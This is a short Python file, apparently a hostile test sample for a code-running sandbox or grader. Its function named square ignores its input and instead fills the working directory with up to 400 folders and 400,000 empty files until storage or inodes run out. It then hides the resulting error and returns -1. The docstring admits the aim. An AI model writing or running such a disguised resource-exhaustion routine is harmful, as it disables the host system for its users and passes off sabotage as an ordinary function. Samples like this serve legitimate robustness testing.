"""As many empty files and folders as there is room for."""
import os


def square(n):
    try:
        for i in range(400_000):
            if i % 1000 == 0:
                os.makedirs(f"d{i}", exist_ok=True)
            os.close(os.open(f"d{i - i % 1000}/{i}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
    return -1
